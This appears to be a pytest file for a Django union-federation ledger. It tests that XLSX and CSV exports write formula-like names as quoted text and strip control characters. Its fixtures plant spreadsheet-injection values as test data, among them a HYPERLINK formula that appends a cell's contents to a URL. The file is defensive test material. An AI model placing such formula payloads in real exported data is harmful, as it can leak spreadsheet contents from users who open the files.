"""Text is safe at the exit: every workbook the ledger writes puts its values through one function
(federation.exports.cells.put). A name that looks like a formula is written as text, and a record
stored with a control character before the forms cleaned their input (legacy data, a restored backup)
still exports — from every list, the year sheet, the summary workbook and its finalised version."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from federation.exports.base import DATE, DATETIME, INTEGER, MONEY, TEXT, Column, ListExporter, write_xlsx
from federation.exports.cells import is_formula_like, put
from federation.imports.registry import spec_class
from federation.imports.template import build_template
from federation.models import ExportJob, ImportBatch
from members.models import Member
from reports.services import summary_finalise
from reports.summary.xlsx import render_summary_xlsx
from tests.support.factories import (
    ActivityFactory,
    AidRecordFactory,
    HardshipCaseFactory,
    MemberFactory,
    UnionFactory,
    UnionYearFactory,
)
from tests.support.jobs import job_download

FORMULA = '=HYPERLINK("http://x"&A1,"点我")'
LEGACY = "王\x1b小\x01明\x07"
LEGACY_CLEAN = "王小明"
Y = 2025


def cells_of(data: bytes, sheet: str | None = None) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def assert_text(cells, text: str) -> None:
    """`text` is in a cell, as text (not a formula), and no cell is a formula."""
    assert [c.value for c in cells if c.value == text], f"{text!r} not found"
    assert all(c.data_type != "f" for c in cells)


@pytest.fixture
def planted(union_a):
    """Records whose text a probe planted: a formula and control characters, as stored before."""
    union = UnionFactory(federation=union_a.federation, name=FORMULA, employer_name=LEGACY)
    formula_member = MemberFactory(union=union, name=FORMULA, job="+1-2")
    MemberFactory(union=union, name=LEGACY, job="@SUM(A1)")
    AidRecordFactory(
        member=formula_member,
        notes=FORMULA,
        goods_description="-2+3",
        handled_by=LEGACY,
        aid_on=dt.date(Y, 3, 1),
    )
    HardshipCaseFactory(member=formula_member, description=FORMULA)
    ActivityFactory(union=union, title=FORMULA, place=LEGACY, starts_on=dt.date(Y, 5, 1))
    UnionYearFactory(union=union, year=Y, employees=10)
    return union


def download(client, url_name: str, **params) -> bytes:
    response = client.get(reverse(url_name), params)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    ("url_name", "texts"),
    [
        ("members:list", [FORMULA, LEGACY_CLEAN]),
        ("unions:list", [FORMULA, LEGACY_CLEAN]),
        ("hardship:aid-list", [FORMULA, "-2+3", LEGACY_CLEAN]),
        ("hardship:list", [FORMULA]),
        ("activities:list", [FORMULA, LEGACY_CLEAN]),
        ("unions:contract-list", []),
    ],
)
def test_every_list_export_writes_planted_text_as_text(client, county_staff, planted, url_name, texts):
    client.force_login(county_staff)
    cells = cells_of(download(client, url_name, format="xlsx"))
    for text in texts:
        assert_text(cells, text)
    # Every text column carries the quote prefix (federation.exports.base), so every formula-like text
    # has it; no cell is a formula.
    quoted = [c.value for c in cells if c.quotePrefix]
    assert {c.value for c in cells if isinstance(c.value, str) and is_formula_like(c.value)} <= set(quoted)
    assert {t for t in texts if is_formula_like(t)} <= set(quoted)
    assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize(
    ("url_name", "texts"),
    [
        ("members:list", [FORMULA, LEGACY_CLEAN]),
        ("unions:list", [FORMULA, LEGACY_CLEAN]),
        ("hardship:aid-list", [FORMULA, "-2+3", LEGACY_CLEAN]),
        ("hardship:list", [FORMULA]),
        ("activities:list", [FORMULA, LEGACY_CLEAN]),
    ],
)
def test_every_list_csv_export_writes_planted_formulas_behind_an_apostrophe(
    client, county_staff, planted, url_name, texts
):
    client.force_login(county_staff)
    data = download(client, url_name, format="csv")
    fields = [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]
    for text in texts:
        assert ("'" + text if is_formula_like(text) else text) in fields
    assert not [field for field in fields if is_formula_like(field)]
    assert LEGACY not in data.decode("utf-8-sig")


def test_the_background_export_job_writes_planted_text_as_text(
    client, county_staff, planted, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    settings.EXPORT_INLINE_MAX_ROWS = 1
    client.force_login(county_staff)
    client.get(reverse("members:list"), {"format": "xlsx"})
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE
    cells = cells_of(job.file.read())
    assert_text(cells, FORMULA)
    assert_text(cells, LEGACY_CLEAN)


def test_the_year_sheet_writes_planted_text_as_text(client, county_staff, planted):
    client.force_login(county_staff)
    cells = cells_of(download(client, "unions:year-sheet", year=Y))
    assert_text(cells, FORMULA)


def test_the_summary_workbook_writes_planted_text_as_text(county, planted):
    county.name = "测试县\x1b总工会"  # the workbook's title holds the federation's name
    county.save()
    cells = cells_of(render_summary_xlsx(county, Y), "基层工会")
    assert_text(cells, FORMULA)
    assert_text(cells, LEGACY_CLEAN)


def test_the_summary_xlsx_page_and_finalising_do_not_fail_on_planted_text(
    client, county, county_chair, planted
):
    client.force_login(county_chair)
    assert (
        job_download(client, client.get(reverse("reports:summary-xlsx", args=[county.pk, Y]))).status_code
        == 200
    )
    version = summary_finalise(federation=county, year=Y, by=county_chair)
    assert_text(cells_of(version.xlsx.read(), "基层工会"), FORMULA)


def test_legacy_text_is_really_stored_uncleaned_by_the_fixture(planted):
    """The test above means something only if the planted text reached the database as it was."""
    assert Member.objects.filter(name=LEGACY).exists()


@pytest.mark.parametrize("kind", [k for k, _label in ImportBatch.Kind.choices])
def test_every_import_template_is_written_and_has_no_formula(kind):
    """帮扶/慰问发放名单: a / in a sheet's name made the aid template an HTTP 500."""
    assert all(c.data_type != "f" for c in cells_of(build_template(spec_class(kind))))


@pytest.mark.parametrize(
    ("value", "shown", "data_type", "quoted"),
    [
        ("=1+1", "=1+1", "s", True),
        ("+86 138", "+86 138", "s", True),
        ("-", "-", "s", True),
        ("@x", "@x", "s", True),
        ("\tx", "\tx", "s", True),
        ("\rx", "\rx", "s", True),
        ("a\x00b\x1bc", "abc", "s", False),
        ("一般文字", "一般文字", "s", False),
        (12, 12, "n", False),
        (Decimal("1.50"), Decimal("1.50"), "n", False),
        (None, None, "n", False),
    ],
)
def test_put_writes_text_as_text_and_drops_what_a_workbook_cannot_hold(value, shown, data_type, quoted):
    book = openpyxl.Workbook()
    cell = put(book.active["A1"], value)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (shown, data_type, quoted)


class OneColumn(ListExporter):
    title = "名单"

    def __init__(self, values, number_format=None) -> None:
        self.columns = (Column("值", 12, number_format),)
        self.values = values

    def total(self):
        return len(self.values)

    def rows(self):
        for value in self.values:
            yield (value,)


def written_cell(value, number_format=None):
    out = io.BytesIO()
    write_xlsx(OneColumn(["一", value], number_format), out)
    return openpyxl.load_workbook(out).active["A3"]


@pytest.mark.parametrize(
    ("value", "number_format", "shown", "data_type", "quoted"),
    [
        ("=1+1", None, "=1+1", "s", True),
        ("+86 138", None, "+86 138", "s", True),
        ("-", None, "-", "s", True),
        ("@x", TEXT, "@x", "s", True),
        ("\tx", None, "\tx", "s", True),
        ("a\x00b\x1bc", None, "abc", "s", True),
        ("一般文字", None, "一般文字", "s", True),
        ("110101199003070011", TEXT, "110101199003070011", "s", True),
        ("x" * 40000, None, "x" * 32767, "s", True),
        (12, INTEGER, 12, "n", False),
        (Decimal("1.50"), MONEY, 1.5, "n", False),
        (dt.date(2026, 1, 2), DATE, dt.datetime(2026, 1, 2), "d", False),
        (None, None, None, "n", False),  # no cell at all
        ("", None, None, "n", False),
    ],
)
def test_the_list_writer_writes_text_as_text_and_drops_what_a_workbook_cannot_hold(
    value, number_format, shown, data_type, quoted
):
    """The list exports' streaming writer takes its values through cells.plain_value: a formula-like
    text is a string cell (never a formula) whose column carries Excel's quote prefix."""
    cell = written_cell(value, number_format)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (shown, data_type, quoted)


def test_the_list_writer_writes_an_aware_time_in_local_time():
    cell = written_cell(dt.datetime(2026, 1, 2, 0, 30, tzinfo=dt.UTC), DATETIME)
    assert cell.value == dt.datetime(2026, 1, 2, 8, 30)


def test_a_reused_cell_loses_its_quote_prefix_with_the_next_harmless_value():
    cell = openpyxl.Workbook().active["A1"]
    put(cell, "=1")
    assert put(cell, "一").quotePrefix is False


def test_no_workbook_writer_sets_a_cell_value_but_through_put():
    """The one cell-writing function is the only place a value is put in a cell."""
    root = Path(__file__).resolve().parent.parent
    bypass = re.compile(
        r"\.value\s*=[^=]|WriteOnlyCell\([^)]*,|\.cell\([^)]*value\s*="  # openpyxl
        r"|\.write_(string|number|datetime|boolean|blank|formula|array_formula|url|rich_string|column)\("
        # XlsxWriter (psycopg's COPY has a write_row too), csv
        r"|sheet\.write(_row)?\(|\.writerows?\((?!csv_row\()"
    )
    offenders = [
        f"{path.relative_to(root)}:{number}"
        for package in ("federation", "unions", "members", "reports")
        for path in (root / package).rglob("*.py")
        if path != root / "federation" / "exports" / "cells.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if bypass.search(line)
    ]
    assert offenders == []
